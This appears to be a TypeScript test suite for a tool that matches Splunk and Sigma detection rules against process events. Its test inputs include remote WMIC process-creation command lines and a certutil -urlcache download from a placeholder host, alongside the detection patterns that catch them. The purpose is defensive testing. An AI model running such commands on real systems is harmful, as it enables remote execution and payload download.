import { execFileSync } from "node:child_process"
import { existsSync } from "node:fs"

import { describe, expect, it } from "vitest"

import { loadCatalog } from "../catalog/load.node.ts"
import type { Detection, Risk } from "../model/types.ts"
import { analyzeSpl, macroMap, type MacroDef } from "../formats/splunk/spl/index.ts"
import { splRuleAnalysis } from "../formats/splunk/analysis.ts"
import { buildProcessEvents } from "./event.ts"
import { keySlot } from "./key-index.ts"
import { compileCatalog, matchEvent, riskTotals } from "./match.ts"

const macros = macroMap([
  {
    name: "security_content_summariesonly",
    arguments: [],
    definition: "summariesonly=false allow_old_summaries=true fillnull_value=null",
  },
  {
    name: "process_wmic",
    arguments: [],
    definition: "(Processes.process_name=wmic.exe OR Processes.original_file_name=wmic.exe)",
  },
  { name: "sysmon", arguments: [], definition: "source=XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" },
] satisfies MacroDef[])

function rule(name: string, search: string, extra: Partial<Detection> & { risk?: Risk } = {}): Detection {
  return {
    format: "splunk",
    id: `id-${name}`,
    name,
    slug: name.toLowerCase().replace(/ /g, "-"),
    status: "production",
    type: "TTP",
    author: "",
    description: "",
    search,
    howToImplement: "",
    knownFalsePositives: "",
    references: [],
    dataSources: [],
    stories: [],
    attack: [],
    products: [],
    killChain: [],
    nist: [],
    cis: [],
    drilldowns: [],
    tests: [],
    macros: [],
    path: `t/${name}.yml`,
    raw: "",
    risk: { entities: [] },
    analysis: splRuleAnalysis(analyzeSpl(search, macros)),
    ...extra,
  }
}

const WMI = rule(
  "WMI Remote",
  '| tstats `security_content_summariesonly` count from datamodel=Endpoint.Processes where `process_wmic` Processes.process="*/node:*" Processes.process="*create*" NOT Processes.process IN ("*/node:localhost*") by Processes.dest Processes.user Processes.process | `drop_dm_object_name(Processes)`',
  {
    risk: {
      score: 56,
      entities: [
        { field: "dest", type: "system", score: 56, role: "risk", origin: "finding" },
        { field: "user", type: "user", score: 48, role: "risk", origin: "intermediate_findings" },
      ],
    },
  },
)
const SYSMON_CERTUTIL = rule(
  "Certutil Raw",
  '`sysmon` EventCode=1 Image="*\\\\certutil.exe" CommandLine="*-urlcache*" | table Computer CommandLine',
  {
    type: "Anomaly",
    dataSources: ["Sysmon EventID 1"],
    risk: {
      legacy: { impact: 50, confidence: 60, score: 30, product: 30 },
      score: 30,
      entities: [{ field: "dest", type: "system", role: "risk", origin: "observable" }],
    },
  },
)
const SEC_CERTUTIL = rule(
  "Certutil 4688",
  'source=XmlWinEventLog:Security EventCode=4688 NewProcessName="*\\\\certutil.exe" Process_Command_Line="*-urlcache*"',
  {
    type: "Hunting",
    dataSources: ["Windows Event Log Security 4688"],
    risk: { score: 80, entities: [{ field: "user", type: "user", score: 80, role: "risk", origin: "rba" }] },
  },
)
const AGG = rule(
  "Burst",
  "| tstats count from datamodel=Endpoint.Processes where Processes.process_name=certutil.exe by Processes.dest | where count > 5",
  { type: "Anomaly" },
)
const catalog = compileCatalog([SEC_CERTUTIL, AGG, WMI, SYSMON_CERTUTIL])

describe("shape selection", () => {
  it("uses CIM for data-model rules and the raw shape the rule names", () => {
    expect(Object.fromEntries(catalog.rules.map((r) => [r.detection.name, r.shapes]))).toEqual({
      "Certutil 4688": ["security4688"],
      Burst: ["cim"],
      "WMI Remote": ["cim"],
      "Certutil Raw": ["sysmon"],
    })
  })

  it("keeps rules in report order: TTP before Anomaly before Hunting, then by risk and name", () => {
    const ranks = { TTP: 0, Anomaly: 1, Hunting: 2, Correlation: 3 } as Record<string, number>
    const keys = catalog.rules.map(
      (r) => [ranks[r.detection.type] ?? 9, -(r.detection.risk.score ?? -1), r.detection.name] as const,
    )
    const sorted = [...keys].sort((a, b) => a[0] - b[0] || a[1] - b[1] || a[2].localeCompare(b[2]))
    expect(keys).toEqual(sorted)
  })

  it("indexes exact values of each rule's key clause, skipping constants when a better clause exists", () => {
    const wmi = catalog.rules.find((r) => r.detection.name === "WMI Remote")!
    // `process_wmic` expands to process_name=wmic.exe OR original_file_name=wmic.exe: either may hold.
    expect(wmi.key?.map((k) => [catalog.fields[k.slot >> 2]!.field, k.value])).toEqual([
      ["process_name", "wmic.exe"],
      ["original_file_name", "wmic.exe"],
    ])
    const i = catalog.rules.indexOf(wmi)
    const pn = catalog.fields.findIndex((f) => f.field === "process_name")
    expect(catalog.keyIndex.slots.get(keySlot(pn, "exact"))?.get("wmic.exe")).toContain(i)
    // Sigma-style suffix patterns on a path index the last path segment.
    const raw = catalog.rules.find((r) => r.detection.name === "Certutil Raw")!
    const image = catalog.fields.findIndex((f) => f.field === "Image")
    expect(raw.key).toEqual([{ slot: keySlot(image, "base"), value: "certutil.exe" }])
  })
})

describe("matchEvent on a built command line", () => {
  const built = buildProcessEvents({
    cmd: "wmic /node:10.0.0.5 process call create calc.exe",
    user: "bob",
    host: "ws-042",
  })
  const report = matchEvent(catalog, { built })
  it("fires the WMI rule with a per-stage, per-leaf trace naming values and macros", () => {
    expect(report.fired.map((f) => f.name)).toEqual(["WMI Remote"])
    const f = report.fired[0]
    expect(f?.shape).toBe("cim")
    const leaves = f?.trace[0]?.leaves ?? []
    expect(leaves.map((l) => [l.test, l.held, l.value, l.macro, l.negated])).toEqual([
      ["Processes.process_name=wmic.exe", true, "wmic.exe", "process_wmic", undefined],
      ["Processes.original_file_name=wmic.exe", true, "wmic.exe", "process_wmic", undefined],
      ["Processes.process=*/node:*", true, "wmic /node:10.0.0.5 process call create calc.exe", undefined, undefined],
      ["Processes.process=*create*", true, "wmic /node:10.0.0.5 process call create calc.exe", undefined, undefined],
      [
        'Processes.process IN ("*/node:localhost*")',
        false,
        "wmic /node:10.0.0.5 process call create calc.exe",
        undefined,
        true,
      ],
    ])
    expect(f?.trace.map((s) => [s.command, s.result])).toEqual([
      ["tstats", true],
      ["rename", "pass"],
    ])
    expect(f?.summary).toContain('Processes.process=*/node:* ← "wmic /node:10.0.0.5')
  })
  it("adds per-entity risk and totals against the threshold", () => {
    expect(report.fired[0]?.risk).toEqual([
      { field: "dest", type: "system", value: "ws-042", score: 56, basis: "dest risk object score 56" },
      { field: "user", type: "user", value: "bob", score: 48, basis: "user risk object score 48" },
    ])
    expect(report.risk.totals.map((t) => [t.field, t.value, t.score, t.exceeds])).toEqual([
      ["dest", "ws-042", 56, false],
      ["user", "bob", 48, false],
    ])
  })
  it("does not count the local call and lists it as a near miss on the exclusion", () => {
    const r = matchEvent(catalog, {
      built: buildProcessEvents({ cmd: "wmic /node:localhost process call create calc.exe" }),
    })
    expect(r.fired).toEqual([])
    expect(r.nearMisses.map((n) => [n.name, n.failed.map((l) => l.test)])).toEqual([
      ["WMI Remote", ['Processes.process IN ("*/node:localhost*")']],
    ])
  })
})

describe("near misses, undecided rules, ranking and totals", () => {
  it("a near miss is one flip away, ranked by the share of positive conditions held; unanchored rules are not near", () => {
    const r = matchEvent(catalog, { built: buildProcessEvents({ cmd: "wmic process call create y" }) })
    // The OR of process_name and original_file_name counts once; the exclusion under NOT not at all.
    expect(r.nearMisses.map((n) => [n.name, n.failed.map((l) => l.test), n.closeness])).toEqual([
      ["WMI Remote", ["Processes.process=*/node:*"], { held: 2, total: 3 }],
    ])
    // Only the process identity fails (either branch of the OR would do): the rule is about wmic, not near.
    expect(
      matchEvent(catalog, { built: buildProcessEvents({ cmd: "notwmic /node:x process call create y" }) }).nearMisses,
    ).toEqual([])
    // Two failed conditions: not near.
    const far = matchEvent(catalog, { built: buildProcessEvents({ cmd: "notwmic /node:x" }) })
    expect(far.nearMisses).toEqual([])
    // Only the synthetic CIM constants hold: not near.
    const none = matchEvent(catalog, { built: buildProcessEvents({ cmd: "calc" }) })
    expect(none.nearMisses).toEqual([])
    expect(
      matchEvent(catalog, { built: buildProcessEvents({ cmd: "wmic process call create y" }) }, { nearMisses: false })
        .nearMisses,
    ).toEqual([])
  })
  it("lists rules that cannot be judged on one event with the reason", () => {
    const r = matchEvent(catalog, {
      built: buildProcessEvents({ cmd: "certutil -urlcache -f http://x/a a", user: "bob", host: "ws-042" }),
    })
    expect(r.undecided.map((u) => [u.name, u.category])).toEqual([["Burst", "aggregation"]])
    expect(r.undecided[0]?.reasons.length).toBeGreaterThan(0)
    expect(r.counts).toMatchObject({ rules: 4, fired: 2, undecided: 1 })
  })
  it("ranks TTP, Anomaly, Hunting, then risk, then name; legacy scores apply per entity", () => {
    const r = matchEvent(catalog, {
      built: buildProcessEvents({ cmd: "certutil -urlcache -f http://x/a a", user: "bob", host: "ws-042" }),
    })
    expect(r.fired.map((f) => [f.name, f.shape])).toEqual([
      ["Certutil Raw", "sysmon"],
      ["Certutil 4688", "security4688"],
    ])
    expect(r.fired[0]?.risk).toEqual([
      { field: "dest", type: "system", value: "ws-042", score: 30, basis: "impact 50 × confidence 60 / 100 = 30" },
    ])
    const totals = riskTotals(
      [
        { name: "a", risk: [{ field: "dest", value: "WS-042", score: 60 }] },
        {
          name: "b",
          risk: [
            { field: "dest", value: "ws-042", score: 45 },
            { field: "user", score: 5 },
          ],
        },
      ],
      100,
    )
    // The user the event does not name is no entity: its 5 stays with rule b.
    expect(totals).toEqual([{ field: "dest", value: "WS-042", score: 105, rules: ["a", "b"], exceeds: true }])
    expect(riskTotals([{ name: "a", risk: [{ field: "dest", value: "h", score: 100 }] }])[0]?.exceeds).toBe(false)
  })
  it("evaluates a pasted event against every rule", () => {
    const r = matchEvent(catalog, {
      event: {
        EventCode: "1",
        Image: "C:\\Windows\\System32\\certutil.exe",
        CommandLine: "certutil -urlcache x",
        source: "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      },
    })
    expect(r.fired.map((f) => [f.name, f.shape])).toEqual([["Certutil Raw", "event"]])
  })
})

describe("atlas match (CLI)", () => {
  it("puts the WMI rule first and prints only JSON on stdout", () => {
    const out = execFileSync(
      "npx",
      ["tsx", "lib/cli.ts", "match", "--cmd", "wmic /node:10.0.0.5 process call create calc.exe", "--json"],
      { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] },
    )
    const rows = JSON.parse(out) as Array<Record<string, unknown>>
    expect(rows[0]).toMatchObject({
      slug: "wmic-remote-process-launch",
      format: "splunk",
      name: "WMIC Remote Process Launch",
      type: "TTP",
    })
    for (const r of rows) expect(Object.keys(r)).toEqual(expect.arrayContaining(["id", "name", "format", "slug"]))
  })
  it("runs a batch: one JSON line per case, errors reported and exit code 1", () => {
    const input = [
      '{"cmd": "wmic /node:10.0.0.5 process call create calc.exe"}',
      "not json",
      '{"event": {"process_name": "x.exe"}}',
      '{"nothing": 1}',
    ].join("\n")
    let stdout = ""
    let status = 0
    try {
      stdout = execFileSync("npx", ["tsx", "lib/cli.ts", "match", "--batch", "-"], {
        input,
        encoding: "utf8",
        stdio: ["pipe", "pipe", "pipe"],
      })
    } catch (e) {
      const err = e as { stdout: string; status: number }
      stdout = err.stdout
      status = err.status
    }
    const lines = stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { line: number; fired?: Array<{ slug: string }>; error?: string })
    expect(status).toBe(1)
    expect(lines).toHaveLength(4)
    expect(lines[0]?.fired?.[0]?.slug).toBe("wmic-remote-process-launch")
    expect(lines[1]?.error).toMatch(/line 2 is not JSON/)
    expect(lines[2]?.fired).toEqual([])
    expect(lines[3]?.error).toMatch(/needs "cmd"/)
  })
})

const CORPUS = "../shared/corpora/security_content"
const present = existsSync(CORPUS)
if (!present) console.warn(`skipping the tester corpus test: ${CORPUS} is absent`)

describe.skipIf(!present)("tester on the security_content corpus", () => {
  it("fires Remote Process Instantiation via WMI and reports the median time per event", () => {
    const compiled = compileCatalog(loadCatalog({ roots: [CORPUS] }).detections)
    const built = buildProcessEvents({
      cmd: "wmic /node:10.0.0.5 process call create calc.exe",
      user: "bob",
      host: "ws-042",
    })
    const report = matchEvent(compiled, { built })
    expect(report.fired.map((f) => f.name)).toContain("Remote Process Instantiation via WMI")
    const median = (near: boolean) => {
      for (let i = 0; i < 5; i++) matchEvent(compiled, { built }, { nearMisses: near })
      const times: number[] = []
      for (let i = 0; i < 21; i++) {
        const t = performance.now()
        matchEvent(compiled, { built }, { nearMisses: near })
        times.push(performance.now() - t)
      }
      return times.sort((a, b) => a - b)[10] ?? 0
    }
    console.log(
      `tester: ${compiled.rules.length} rules; median per event ${median(false).toFixed(2)} ms (no near misses), ${median(true).toFixed(2)} ms (with near misses)`,
    )
  })
})

describe("Sigma rules in the tester", () => {
  const content = compileCatalog(loadCatalog().detections)
  const WMIC = 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'

  it("a command line fires the Splunk and the Sigma WMIC rules, Sigma on its process_creation shape with selections named", () => {
    const r = matchEvent(content, { built: buildProcessEvents({ cmd: WMIC }) })
    const sigma = r.fired.find((f) => f.format === "sigma" && f.name === "WMIC Starts a Process on Another Host")
    expect(r.fired.some((f) => f.format === "splunk" && f.name === "WMIC Remote Process Launch")).toBe(true)
    expect(sigma?.shape).toBe("sigma")
    expect(sigma?.trace[0]?.command).toBe("condition")
    const held = sigma!.trace[0]!.leaves.filter((l) => l.held === true)
    expect(held.map((l) => l.selection)).toEqual(
      expect.arrayContaining(["selection_wmic", "selection_remote", "selection_create"]),
    )
    expect(r.gates.find((g) => g.format === "sigma")?.sources).toEqual(["windows/process_creation"])
  })

  it("gates Sigma rules by logsource: Security-service rules do not read a process_creation event", () => {
    const r = matchEvent(content, { built: buildProcessEvents({ cmd: WMIC }) })
    expect(r.counts.notApplicable).toBeGreaterThan(0)
    const all = [...r.fired, ...r.nearMisses, ...r.undecided]
    expect(all.some((x) => x.name === "Scheduled Task Registered Pointing Into a User Profile")).toBe(false)
  })

  it("a localhost node is a Sigma near miss on its filter", () => {
    const r = matchEvent(content, {
      built: buildProcessEvents({ cmd: "wmic /node:localhost process call create calc.exe" }),
    })
    const near = r.nearMisses.find((n) => n.format === "sigma" && n.name === "WMIC Starts a Process on Another Host")
    expect(near?.failed.map((l) => l.selection)).toEqual(["filter_local_node"])
    expect(near?.failed[0]?.negated).toBe(true)
  })

  it("a pasted Sysmon event is gated by its Channel and EventID; an event naming no channel reaches every Sigma rule", () => {
    const sysmon = {
      EventID: "1",
      EventCode: "1",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      ProviderName: "Microsoft-Windows-Sysmon",
      Image: "C:\\Windows\\System32\\wbem\\WMIC.exe",
      CommandLine: WMIC,
    }
    const r = matchEvent(content, { event: sysmon })
    expect(r.fired.some((f) => f.format === "sigma" && f.name === "WMIC Starts a Process on Another Host")).toBe(true)
    expect(r.gates.find((g) => g.format === "sigma")?.sources).toContain("windows/process_creation/sysmon")
    const flat = matchEvent(content, { event: { Image: "C:\\Windows\\System32\\wbem\\WMIC.exe", CommandLine: WMIC } })
    expect(flat.gates.find((g) => g.format === "sigma")?.sources).toBe("any")
    // Only the other formats' gates keep rules away: Elastic rules read ECS-shaped events only.
    expect(flat.gates.find((g) => g.format === "elastic")?.sources).toEqual(["not an ECS event"])
    expect(flat.counts.notApplicable).toBe(content.rules.filter((r) => r.format.id === "elastic").length)
    expect(flat.fired.some((f) => f.format === "sigma" && f.name === "WMIC Starts a Process on Another Host")).toBe(
      true,
    )
  })

  it("lists Sigma correlations apart: they never judge one event", () => {
    const r = matchEvent(content, { built: buildProcessEvents({ cmd: WMIC }) })
    expect(content.notAnalysed.some((n) => n.format === "sigma" && /correlation/.test(n.reason))).toBe(true)
    expect(r.counts.notAnalysed).toBe(content.notAnalysed.length)
  })
})
